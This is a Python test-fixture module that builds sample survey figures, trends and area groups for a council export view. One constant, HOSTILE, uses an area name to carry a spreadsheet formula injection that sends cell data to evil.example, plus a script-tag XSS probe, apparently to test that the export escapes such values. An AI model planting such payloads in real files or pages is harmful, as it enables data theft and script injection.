"""A council's figures to take away: with what is withheld, what is missing, a change, a gap and a trend."""

from collections.abc import Mapping
from dataclasses import replace
from datetime import date

from conversations.answers import Choice
from conversations.calendar import YearKind
from conversations.export_view import ExportView, export_view
from conversations.figures import SummaryFigures, Trend
from conversations.material import Counted, Earlier, HeldBack, Material, Response, Round, questions_by_key
from conversations.reckoning import summary_figures, trend
from conversations.scoring import OVERALL, Histogram
from conversations.summary_request import SummaryRequest
from conversations.summary_view import SummaryView
from tests.adapters.charts.samples import DATA, EMPTY, UNSURE, WITHHELD, levels
from tests.conversations.builders import CHECKIN, FRAMEWORK, QUARTER

COUNCIL = "Seaford Borough Council"
MADE_ON = date(2026, 12, 21)
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Housing") <script>alert(1)</script>'
AREAS = ("Adult social care", "Housing", HOSTILE, "Registrars")
_KEYS = tuple(questions_by_key(FRAMEWORK))


def a_histogram(place: int, answers: int = 60) -> dict[Choice, int]:
    """Mostly at one level, which `place` picks."""
    counts = [answers // 10 for _ in range(5)]
    counts[place % 5] += answers // 2
    return {**levels(*counts), Choice.NOT_SURE: 4, Choice.NOT_APPLICABLE: 3}


def published(shift: int = 0, answers: int = 60) -> dict[str, Histogram]:
    shown = (key for key in _KEYS if key not in WITHHELD | EMPTY)
    some: dict[str, Histogram] = {key: a_histogram(place + shift, answers) for place, key in enumerate(shown)}
    return {**some, DATA: levels(25, 18, 1, 10, 6), UNSURE: {Choice.NOT_SURE: 9}}


def counted(histograms: Mapping[str, Histogram]) -> Counted:
    people = {key: sum(counts.values()) for key, counts in histograms.items()}
    return Counted(histograms, WITHHELD, people)


def a_round(quarter: int, version: str = "1.0.0", shift: int = 0) -> Round:
    return Round(quarter, version, counted(published(shift)))


def figures() -> SummaryFigures:
    return summary_figures(
        FRAMEWORK,
        Material(
            a_round(QUARTER),
            Response(240, 231, 148),
            10,
            Earlier(a_round(QUARTER - 1, shift=1)),
            leaders=counted(published(2, 20)),
            frontline=counted(published()),
            evidence=dict.fromkeys(_KEYS, 3),
            barriers={key: {"budget": 4, FRAMEWORK.barriers[1].id: 7} for key in _KEYS},
            held_back=HeldBack(12, 3),
        ),
    )


def of_group(place: int) -> SummaryFigures:
    """The last area has too few people."""
    known = Counted({}, frozenset(_KEYS)) if place == 3 else counted(published(place, 30))
    material = Material(Round(QUARTER, "1.0.0", known), Response(20, 20, 17), 10)
    return summary_figures(FRAMEWORK, material)


def a_trend(key: str, quarters: int = 6) -> Trend:
    rounds = [
        a_round(QUARTER + 1 - quarters + place, "1.0.0" if place < 4 else "1.1.0", place // 2)
        for place in range(quarters)
    ]
    hidden = Counted({}, frozenset(_KEYS))
    rounds[1] = replace(rounds[1], counted=hidden)
    return trend(FRAMEWORK, key, rounds, 10)


def a_summary(council: str = COUNCIL, *, is_open: bool = False, synthetic: bool = False) -> SummaryView:
    return SummaryView(
        council,
        YearKind.FINANCIAL,
        replace(CHECKIN, synthetic=synthetic),
        is_open,
        SummaryRequest(),
        figures(),
    )


def a_view(summary: SummaryView | None = None) -> ExportView:
    themes = [key for key in _KEYS if not key.startswith("cell:") and key != OVERALL]
    return export_view(
        summary or a_summary(),
        {name: of_group(place) for place, name in enumerate(AREAS)},
        {"leader": of_group(2), "frontline": of_group(0), "elected": of_group(3)},
        {key: a_trend(key) for key in (OVERALL, *themes)},
        MADE_ON,
    )
